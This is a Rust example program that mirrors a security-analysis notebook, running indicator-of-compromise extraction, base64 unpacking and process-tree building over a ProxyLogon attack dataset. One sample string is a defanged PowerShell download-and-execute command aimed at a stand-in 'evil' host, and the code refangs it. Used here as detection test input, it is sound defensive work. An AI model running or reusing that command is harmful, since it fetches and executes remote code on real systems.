//! The code of `examples/extraction-and-trees.ipynb`, cell by cell, so the notebook's Rust is
//! compiled and run with the crate's tests (`cargo run -p mstic-transform --example extraction_and_trees`).
//! Notebook cells get the same names from `use mstic::prelude::*;`.

use mstic_core::Frame;
use mstic_core::paths::fixture;
use mstic_transform::{ExtractOptions, IocExtractor, ProcSchema, build_process_tree, read_zipped_json_lines, refang, unpack};

fn main() {
    // Cell: load the OTRF proxylogon dataset (JSON lines inside a zip).
    let events = read_zipped_json_lines(fixture("otrf/proxylogon_ssrf_rce_poc.zip").expect("fixture folder (set MSTIC_FIXTURES)"), None).expect("proxylogon dataset");
    println!("{} events", events.len());

    // Cell: IoCs in every event message.
    let extractor = IocExtractor::new();
    let iocs = extractor.extract_frame(&events, &["Message"], &ExtractOptions::new()).expect("extraction");
    let counts: Frame = iocs.count_by("IoCType").expect("counts");
    println!("{counts}");

    // Cell: the most frequent URLs.
    let urls = iocs
        .sql("SELECT Observable, COUNT(*) AS n FROM t WHERE IoCType = 'url' GROUP BY Observable ORDER BY n DESC LIMIT 10")
        .expect("query");
    println!("{urls}");

    // Cell: one string, defanged observables included.
    let one = extractor.extract("IEX (New-Object Net.WebClient).DownloadString('hXXp://evil[.]contoso[.]com/a.ps1') from 10.1.2.3");
    println!("{one:#?}");
    println!("{}", refang("hXXp://evil[.]contoso[.]com/a.ps1"));

    // Cell: unpack nested base64 (zip, tar and gzip inside).
    let message = std::fs::read_to_string(fixture("msticpy/testdata/base64msg.txt").expect("fixture folder (set MSTIC_FIXTURES)")).expect("base64msg.txt");
    let unpacked = unpack(&message);
    println!("{} decoded items", unpacked.items.len());
    let items = unpacked.to_frame().expect("frame").select(&["reference", "file_name", "file_type", "encoding_type", "md5"]).expect("columns");
    println!("{items}");

    // Cell: a process tree from the Sysmon process-creation events (EventID 1).
    let tree = build_process_tree(&events, Some(&ProcSchema::sysmon_process_create())).expect("process tree");
    println!("{}", tree.summary());
    println!("{}", tree.to_text(None, 0));
}
